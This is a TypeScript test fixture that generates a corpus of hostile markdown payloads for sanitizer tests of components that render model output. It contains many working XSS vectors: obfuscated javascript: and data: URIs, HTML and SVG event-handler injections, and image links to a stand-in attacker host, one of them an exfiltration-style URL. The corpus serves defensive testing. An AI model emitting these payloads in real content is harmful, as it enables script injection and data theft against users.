/**
 * Hostile markdown for the security tests of `Markdown` and `ChatMessage` (reuse it for any
 * component that renders model output). Every payload that executes calls `window.__xss(id)`,
 * so a test installs that trap and expects it never to be called. Payloads that try to fetch
 * point at `EVIL_ORIGIN`, which must never be requested (it is not in any allow-list).
 *
 * @example
 * for (const payload of xssCorpus) render(<Markdown>{payload.markdown}</Markdown>)
 */
export interface XssPayload {
  /** Stable name, used in failure messages. */
  id: string
  /** What kind of attack it is. */
  category: 'link' | 'image' | 'html' | 'svg' | 'encoded' | 'reference' | 'autolink' | 'code' | 'mixed'
  markdown: string
}

/** An origin no payload may ever reach. `.invalid` never resolves (RFC 2606). */
export const EVIL_ORIGIN = 'https://evil.invalid'
const call = 'window.__xss(1)'
const js = `javascript:${call}`

const dangerousSchemes: readonly string[] = [
  js,
  `JavaScript:${call}`,
  `JAVASCRIPT:${call}`,
  ` javascript:${call}`,
  `\tjavascript:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `java\rscript:${call}`,
  `java\u0000script:${call}`,
  `\u0001javascript:${call}`,
  `\u00a0javascript:${call}`,
  `javascript\t:${call}`,
  `&#106;avascript:${call}`,
  `&#x6A;avascript:${call}`,
  `&#X6a;avascript:${call}`,
  `&#0000106;avascript:${call}`,
  `&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${call}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${call}`,
  `javascript&colon;${call}`,
  `javascript&#58;${call}`,
  `javascript&#x3a;${call}`,
  `java&Tab;script:${call}`,
  `java&NewLine;script:${call}`,
  `javascript%3A${call}`,
  `%6Aavascript:${call}`,
  `%256Aavascript:${call}`,
  `&amp;#106;avascript:${call}`,
  `vbscript:msgbox(1)`,
  `VBScript:msgbox(1)`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3MoMSk8L3NjcmlwdD4=`,
  `DATA:text/html,<script>${call}</script>`,
  `data:image/svg+xml,<svg onload="${call}"/>`,
  `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcygxKSIvPg==`,
  `data:application/javascript,${call}`,
  `file:///etc/passwd`,
  `blob:${EVIL_ORIGIN}/1`,
  `jav&#x09;ascript:${call}`,
  `\u2028javascript:${call}`,
  `javascript:/*--></title></style></textarea></script><svg/onload=${call}>`,
]

function build(): XssPayload[] {
  const payloads: XssPayload[] = []
  const add = (category: XssPayload['category'], markdown: string) =>
    payloads.push({ id: `${category}-${payloads.length}`, category, markdown })

  dangerousSchemes.forEach((url) => {
    add('link', `[click me](${url})`)
    add('link', `[click me](<${url}>)`)
    add('image', `![x](${url})`)
  })
  for (const url of dangerousSchemes.slice(0, 12)) {
    add('reference', `[ref link][bad]\n\n[bad]: ${url}`)
    add('reference', `![ref image][badimg]\n\n[badimg]: <${url}>`)
  }
  add('reference', `[later][late]\n\nText between.\n\n[late]: ${js} "title"`)
  add('reference', `[shortcut]\n\n[shortcut]: ${js}`)
  add('reference', `[collapsed][]\n\n[collapsed]: ${js}`)

  const html = [
    `<script>${call}</script>`,
    `<img src=x onerror="${call}">`,
    `<img src="${EVIL_ORIGIN}/pixel.png">`,
    `<svg onload="${call}"></svg>`,
    `<svg><script>${call}</script></svg>`,
    `<svg><a xlink:href="${js}"><text y="20">svg link</text></a></svg>`,
    `<svg><animate onbegin="${call}" attributeName="x" dur="1s"/></svg>`,
    `<iframe src="${js}"></iframe>`,
    `<iframe srcdoc="<script>parent.__xss(1)</script>"></iframe>`,
    `<object data="${js}"></object>`,
    `<embed src="${js}">`,
    `<a href="${js}">html link</a>`,
    `<a href="${EVIL_ORIGIN}" onclick="${call}">html link</a>`,
    `<div onmouseover="${call}" style="position:fixed;inset:0">cover</div>`,
    `<details open ontoggle="${call}"><summary>x</summary></details>`,
    `<body onload="${call}">`,
    `<input autofocus onfocus="${call}">`,
    `<video src=x onerror="${call}"></video>`,
    `<audio src=x onerror="${call}"></audio>`,
    `<link rel="stylesheet" href="${EVIL_ORIGIN}/style.css">`,
    `<style>@import url("${EVIL_ORIGIN}/import.css"); body{background:url("${EVIL_ORIGIN}/bg.png")}</style>`,
    `<meta http-equiv="refresh" content="0;url=${js}">`,
    `<base href="${EVIL_ORIGIN}/">`,
    `<form action="${js}"><button>go</button></form>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${call}">`,
    `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
    `<!--><img src=x onerror="${call}">-->`,
    `<![CDATA[<img src=x onerror="${call}">]]>`,
    `<img src="x\` onerror="${call}"\`>`,
    `<scr<script>ipt>${call}</script>`,
    `Inline <img src=x onerror="${call}"> html in a paragraph`,
    `<table><tr><td background="${js}">cell</td></tr></table>`,
    `<isindex type=image src=1 onerror=${call}>`,
    `<marquee onstart="${call}">m</marquee>`,
    `<template><img src=x onerror="${call}"></template>`,
  ]
  for (const markup of html) add(markup.includes('<svg') ? 'svg' : 'html', markup)

  const encoded = [
    `[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${call})`,
    `[x](\\javascript:${call})`,
    `[x](javascript\\:${call})`,
    `[x]( javascript:${call} )`,
    `[x](javascript:${call} "title")`,
    `[x](javascript:${call}'title')`,
    `[x](javascript://%0a${call})`,
    `[x](javascript://example.com/%0a${call})`,
    `[x](&lt;javascript:${call}&gt;)`,
    `![x](https://${EVIL_ORIGIN.slice(8)}/&#x2e;png)`,
    `[x](//evil.invalid/steal)`,
    `![x](//evil.invalid/steal.png)`,
    `![x](\\\\evil.invalid\\steal.png)`,
    `![x](/\\evil.invalid/steal.png)`,
    `![x](https:evil.invalid/steal.png)`,
    `![x](${EVIL_ORIGIN}/exfiltrate?secret=abc "title")`,
    `![x](<${EVIL_ORIGIN}/with space.png>)`,
    `![x](${EVIL_ORIGIN.toUpperCase()}/upper.png)`,
    `![x](https://evil.invalid:443/port.png)`,
    `![x](https://user:pass@evil.invalid/creds.png)`,
    `![x](https://evil.invalid%2F@trusted.example/x.png)`,
    `![x](http://evil.invalid/plain-http.png)`,
  ]
  for (const markdown of encoded) add('encoded', markdown)

  const autolinks = [
    `<javascript:${call}>`,
    `<JAVASCRIPT:${call}>`,
    `<vbscript:msgbox(1)>`,
    `<data:text/html,<script>${call}</script>>`,
    `<${EVIL_ORIGIN}/autolink>`,
    `${EVIL_ORIGIN}/bare-url`,
    `www.evil.invalid/bare-www`,
    `javascript:${call}`,
    `<mailto:a@evil.invalid?body=<script>${call}</script>>`,
  ]
  for (const markdown of autolinks) add('autolink', markdown)

  const code = [
    `\`\`\`html\n<script>${call}</script>\n<img src=x onerror="${call}">\n\`\`\``,
    `\`<img src=x onerror="${call}">\``,
    `\`\`\`${'"><img src=x onerror=window.__xss(1)>'}\ncode with a hostile info string\n\`\`\``,
    `    <script>${call}</script>`,
  ]
  for (const markdown of code) add('code', markdown)

  const mixed = [
    `**[bold link](${js})**`,
    `[![image in link](${EVIL_ORIGIN}/i.png)](${js})`,
    `[link with image ![x](${EVIL_ORIGIN}/i.png)](${EVIL_ORIGIN})`,
    `- [list link](${js})\n- ![list image](${EVIL_ORIGIN}/l.png)`,
    `> [quote link](${js})\n> <img src=x onerror="${call}">`,
    `| a | b |\n|---|---|\n| [cell](${js}) | <img src=x onerror="${call}"> |`,
    `# Heading <script>${call}</script>`,
    `[title attack](${EVIL_ORIGIN} "\\" onmouseover=\\"${call}")`,
    `![alt attack" onerror="${call}](${EVIL_ORIGIN}/a.png)`,
    `Streaming half image ![x](${EVIL_ORIGIN}/partial`,
    `Half link [x](javascript:window.__xs`,
  ]
  for (const markdown of mixed) add('mixed', markdown)
  return payloads
}

/** At least 100 hostile markdown payloads (links, images, raw HTML, SVG, encoded schemes, …). */
export const xssCorpus: readonly XssPayload[] = build()
